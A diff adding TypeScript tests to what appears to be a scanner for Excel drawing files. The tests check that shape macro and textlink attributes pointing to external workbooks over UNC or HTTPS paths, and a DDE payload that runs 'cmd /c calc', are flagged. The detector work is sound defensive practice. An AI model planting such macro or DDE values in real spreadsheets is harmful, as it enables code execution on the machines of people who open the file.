@@ -80,3 +80,30 @@ describe('a pivot cache’s source', () => {
     expect(findings('xl/pivotCache/pivotCacheDefinition1.xml', cache('<worksheetSource name="表1"/>'))).toEqual([]);
   });
 });
+
+describe('a drawing’s shapes (round 10)', () => {
+  const drawing = (tag: string) =>
+    Buffer.from(
+      `<xdr:wsDr><xdr:twoCellAnchor>${tag}<xdr:nvSpPr/></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>`,
+    );
+
+  it.each([
+    [`<xdr:sp macro="'\\\\host\\s\\[宏.xlsm]S'!Auto" textlink="">`, 'OOXML_EXTERNAL formula reference to another file'],
+    [`<xdr:pic macro="'https://host/[宏.xlsm]S'!Auto">`, 'OOXML_EXTERNAL formula reference to another file'],
+    [`<cdr:graphicFrame macro="cmd|' /c calc'!A0">`, 'OOXML_DDE undefined'],
+    [
+      `<xdr:cxnSp macro="" textlink="'\\\\host\\s\\[b.xlsx]S'!$A$1">`,
+      'OOXML_EXTERNAL formula reference to another file',
+    ],
+  ])('reads a shape’s macro and linked text as references: %s, in any piece size', (tag, finding) => {
+    for (const piece of [3, 64 * 1024]) {
+      expect(findings('xl/drawings/drawing1.xml', drawing(tag), piece), String(piece)).toEqual([finding]);
+    }
+  });
+
+  it('leaves a shape as Excel writes it, and one running the workbook’s own macro', () => {
+    expect(findings('xl/drawings/drawing1.xml', drawing('<xdr:sp macro="" textlink="">'))).toEqual([]);
+    expect(findings('xl/drawings/drawing1.xml', drawing('<xdr:sp macro="[0]!显示明细" textlink="$A$1">'))).toEqual([]);
+    expect(findings('xl/drawings/drawing1.xml', drawing('<xdr:sp macro="Book1.xlsm!Macro1(2)">'))).toEqual([]);
+  });
+});
